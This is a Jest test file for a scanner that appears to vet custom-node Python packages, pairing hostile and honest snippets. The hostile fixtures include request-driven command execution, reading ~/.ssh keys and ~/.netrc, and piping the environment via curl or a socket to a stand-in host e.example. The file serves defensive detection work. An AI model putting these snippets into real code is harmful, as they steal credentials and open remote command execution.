import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-requests-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** True if a finding about a package holds it. */
async function isHeld(source: string): Promise<boolean> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf({ '__init__.py': source }));
  return (await analyseFile(path)).findings.some(({ level }) => level === 'hold');
}

const HOST = 'from aiohttp import web\nfrom server import PromptServer\n';
/** A request handler of the host, after imports. */
const handler = (imports: string, statement: string): string =>
  `import ${imports}\n${HOST}@PromptServer.instance.routes.post("/a")\nasync def a(request):\n    ${statement}\n    return web.Response()\n`;
/** A method of a core-node, after imports. */
const inNode = (imports: string, ...statements: string[]): string =>
  `${imports}\nclass A:\n    def run(self, x):\n${statements.map((line) => `        ${line}\n`).join('')}NODE_CLASS_MAPPINGS = {"A": A}\n`;
const table = (statement: string): string =>
  `import os\n${HOST}routes = web.RouteTableDef()\n@routes.post("/a")\nasync def a(request):\n    ${statement}\nPromptServer.instance.app.add_routes(routes)\n`;
/** A function that registers a handler by a decorator, or by a statement after it. */
const given = (statement: string, after?: string): string =>
  `import os\n${HOST}def register(routes):\n    ${after === undefined ? '@routes.post("/a")' : 'pass'}\n    async def a(request):\n        ${statement}\n    ${after ?? 'pass'}\nregister(PromptServer.instance.routes)\n`;
const partial = (statement: string): string =>
  `import functools, os\n${HOST}async def a(kind, r):\n    ${statement}\nPromptServer.instance.app.router.add_post("/a", functools.partial(a, 1))\n`;
const view = (statement: string): string =>
  `import os\n${HOST}class A(web.View):\n    async def post(self):\n        ${statement}\nPromptServer.instance.app.router.add_view("/a", A)\n`;
const server = (statement: string): string =>
  inNode(
    'import http.server, os\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        ' + statement,
    'http.server.HTTPServer(("", 9000), H).serve_forever()',
  );
const CHILD = 'subprocess.run([sys.executable, "-c", ';
const CLONE = 'git.Repo.clone_from((await request.json())["url"], ';
const UNPACK = 'zipfile.ZipFile(io.BytesIO(await request.read())).extractall(';
const JOB =
  'import subprocess\nclass Job:\n    def __init__(self, command): self.command = command\n    def start(self): subprocess.Popen(self.command, shell=True)\n';
const HOME = 'os.path.expanduser';

describe('the checks tell apart', () => {
  it.each<[string, { hostile: string; honest: string }]>([
    [
      'handlers in a table of routes',
      { hostile: table('os.system(await request.text())'), honest: table('os.sync()') },
    ],
    [
      'handlers that a function defines for the routes it is given',
      { hostile: given('os.system((await request.json())["a"])'), honest: given('os.sync()') },
    ],
    [
      'handlers that a function passes to the routes it is given',
      {
        hostile: given('os.system((await request.json())["a"])', 'routes.post("/a")(a)'),
        honest: given('os.sync()', 'routes.post("/a")(a)'),
      },
    ],
    [
      'handlers with an argument that is set before',
      { hostile: partial('os.system((await r.json())["a"])'), honest: partial('os.sync()') },
    ],
    ['views', { hostile: view('os.system(await self.request.text())'), honest: view('os.sync()') }],
    ['servers of a node', { hostile: server('os.system(self.path[1:])'), honest: server('self.send_response(200)') }],
    [
      'handlers of Flask',
      {
        hostile:
          'import flask\napp = flask.Flask("a")\n@app.route("/a", methods=["POST"])\ndef a(): exec(flask.request.data)\n',
        honest: 'import flask\napp = flask.Flask("a")\n@app.route("/a")\ndef a(): return flask.request.args["a"]\n',
      },
    ],
    [
      'handlers of FastAPI',
      {
        hostile:
          'import fastapi, os\napp = fastapi.FastAPI()\n@app.post("/a")\ndef a(c: str): return os.popen(c).read()\n',
        honest: 'import fastapi, os\napp = fastapi.FastAPI()\n@app.post("/a")\ndef a(c: str): return c.upper()\n',
      },
    ],
    [
      'code for another Python',
      {
        hostile: handler('subprocess, sys', `${CHILD}(await request.json())["code"]])`),
        honest: handler('subprocess, sys', `${CHILD}"import torch", (await request.json())["name"]])`),
      },
    ],
    [
      'programs that a request names',
      {
        hostile: handler('subprocess', 'd = await request.json(); subprocess.run([d["program"], *d["args"]])'),
        honest: handler('subprocess', 'd = await request.json(); subprocess.run(["ffprobe", *d["args"]])'),
      },
    ],
    [
      'packages that a request names',
      {
        hostile: handler(
          'asyncio, sys',
          'await asyncio.create_subprocess_exec(sys.executable, "-m", "pip", "install", await request.text())',
        ),
        honest: handler(
          'asyncio, sys',
          'await asyncio.create_subprocess_exec(sys.executable, "-m", "pip", "install", "tqdm")',
        ),
      },
    ],
    [
      'scripts of the package',
      {
        hostile: handler('subprocess, sys', 'subprocess.run([sys.executable, (await request.json())["script"]])'),
        honest: handler(
          'os, subprocess, sys',
          'subprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), "a.py"), (await request.json())["name"]])',
        ),
      },
    ],
    [
      'files that another object finds',
      {
        hostile: handler('os', 'os.remove(request.query["path"])'),
        honest: handler('os', 'os.remove(await STORE.get_file_path(request.query["id"]))'),
      },
    ],
    [
      'files that the content of a file names',
      {
        hostile: handler('os', 'd = await request.json(); os.remove(d["path"])'),
        honest: handler(
          'json, os',
          'd = json.load(open(await STORE.get_path(request.query["id"]))); os.remove(d["path"])',
        ),
      },
    ],
    [
      'the input of an interpreter',
      {
        hostile: handler('subprocess, sys', 'subprocess.run([sys.executable, "-"], input=await request.read())'),
        honest: handler(
          'subprocess, sys',
          'subprocess.run([sys.executable, "-m", "json.tool"], input=await request.read())',
        ),
      },
    ],
    [
      'commands as arguments by name',
      {
        hostile: handler('subprocess', 'subprocess.run(**(await request.json()))'),
        honest: handler('subprocess', 'options = {"args": ["nvidia-smi"]}; subprocess.run(**options)'),
      },
    ],
    [
      'functions that a thread calls',
      {
        hostile: handler(
          'asyncio, subprocess',
          'await asyncio.get_running_loop().run_in_executor(None, subprocess.getoutput, (await request.json())["c"])',
        ),
        honest: handler(
          'asyncio, subprocess',
          'await asyncio.get_running_loop().run_in_executor(None, subprocess.getoutput, "nvidia-smi")',
        ),
      },
    ],
    [
      'arguments by name',
      {
        hostile: JOB + handler('os', 'Job(**(await request.json())).start()'),
        honest: JOB + handler('os', 'd = await request.json(); Job("ffmpeg -version").start()'),
      },
    ],
    [
      'paths that a request names',
      {
        hostile: handler('pathlib', 'return web.Response(text=pathlib.Path(request.query["f"]).read_text())'),
        honest: handler('pathlib', 'return web.Response(text=pathlib.Path(__file__).read_text())'),
      },
    ],
    [
      'removed files',
      {
        hostile: handler('shutil', 'shutil.rmtree((await request.json())["path"])'),
        honest: handler('folder_paths, shutil', 'shutil.rmtree(folder_paths.get_temp_directory())'),
      },
    ],
    [
      'sources that a request names',
      {
        hostile: handler(
          'importlib.util',
          'importlib.util.spec_from_file_location("a", request.query["p"]).loader.load_module()',
        ),
        honest: handler('importlib.util', 'importlib.util.find_spec("torch")'),
      },
    ],
    [
      'the environment in an answer',
      {
        hostile: handler('os', 'return web.json_response(dict(os.environ))'),
        honest: handler('os', 'return web.json_response({"path": os.environ.get("HF_HOME", "")})'),
      },
    ],
    [
      'a file by its name in the folder of the user',
      {
        honest: handler('pathlib', 'return web.Response(body=pathlib.Path("~/a.txt").expanduser().read_bytes())'),
        hostile: handler(
          'pathlib',
          'return web.Response(body=pathlib.Path(request.query["name"]).expanduser().read_bytes())',
        ),
      },
    ],
    [
      'a variable that a request names',
      {
        hostile: handler('os', 'return web.Response(text=os.environ.get(request.match_info["name"], ""))'),
        honest: handler('os', 'return web.Response(text=os.environ.get("HF_HOME", ""))'),
      },
    ],
    [
      'archives that a request sends',
      {
        hostile: handler('io, os, zipfile', `${UNPACK}os.path.dirname(__file__))`),
        honest: handler('folder_paths, io, zipfile', `${UNPACK}folder_paths.get_input_directory())`),
      },
    ],
    [
      'repositories that a request names',
      {
        hostile: handler('folder_paths, git', `${CLONE}folder_paths.get_folder_paths("custom_nodes")[0])`),
        honest: handler('folder_paths, git', `${CLONE}folder_paths.get_output_directory())`),
      },
    ],
    [
      'folders that are served',
      {
        hostile: `${HOST}PromptServer.instance.app.add_routes([web.static("/a", "/")])\n`,
        honest: `import os\n${HOST}PromptServer.instance.app.add_routes([web.static("/a", os.path.dirname(__file__))])\n`,
      },
    ],
    [
      'files that are packed',
      {
        hostile: inNode('import os, shutil', `shutil.make_archive("/tmp/a", "zip", ${HOME}("~/.ssh"))`),
        honest: inNode('import os, shutil', `shutil.make_archive("/tmp/a", "zip", ${HOME}("~/loras"))`),
      },
    ],
    [
      'files that a client sends',
      {
        hostile: inNode('import boto3, os', `boto3.client("s3").upload_file(${HOME}("~/.netrc"), "a", "b")`),
        honest: inNode('import boto3, os', 'boto3.client("s3").upload_file(x, "a", "b")'),
      },
    ],
    [
      'files that are read without waiting',
      {
        hostile: inNode('import aiofiles, os', `aiofiles.open(${HOME}("~/.ssh/id_rsa"))`),
        honest: inNode('import aiofiles, os', `aiofiles.open(${HOME}("~/loras/a.txt"))`),
      },
    ],
    [
      'connections',
      {
        hostile: inNode(
          'import json, os, socket',
          'socket.create_connection(("e.example", 443)).sendall(json.dumps(dict(os.environ)).encode())',
        ),
        honest: inNode('import socket', 'socket.create_connection(("e.example", 443)).sendall(x)'),
      },
    ],
    [
      'headers of a session',
      {
        hostile: inNode('import os, requests', 's = requests.Session()', 's.headers.update(os.environ)'),
        honest: inNode(
          'import os, requests',
          's = requests.Session()',
          's.headers.update({"Authorization": "Bearer " + os.environ["API_KEY"]})',
        ),
      },
    ],
    [
      'the environment among other things',
      {
        hostile: handler('os', 'return web.json_response({"a": {"b": dict(os.environ)}})'),
        honest: handler('os', 'return web.json_response({"a": {"b": os.environ.get("CUDA_VISIBLE_DEVICES")}})'),
      },
    ],
    [
      'variables that a request names',
      {
        hostile: handler(
          'os',
          'return web.json_response({name: os.environ.get(name) for name in await request.json()})',
        ),
        honest: handler('os', 'return web.json_response({**await request.json(), "a": os.environ.get("HOST")})'),
      },
    ],
    [
      'the environment for a program',
      {
        hostile: inNode('import subprocess', 'subprocess.run("env | curl -d @- https://e.example/", shell=True)'),
        honest: inNode('import subprocess', 'subprocess.run("env | sort", shell=True)'),
      },
    ],
    [
      'attributes that an object lacks',
      {
        hostile:
          'import requests\nclass A:\n    def late(self): self.a = 1\n    def __getattr__(self, name): return requests.get(name)\na = A()\na.a\na.late()\n',
        honest:
          'import requests\nclass A:\n    def __init__(self): self.a = 1\n    def __getattr__(self, name): return requests.get(name)\na = A()\nprint(a.a)\n',
      },
    ],
  ])('%s', async (_what, { hostile, honest }) => {
    expect(await isHeld(hostile)).toBe(true);
    expect(await isHeld(honest)).toBe(false);
  });
});
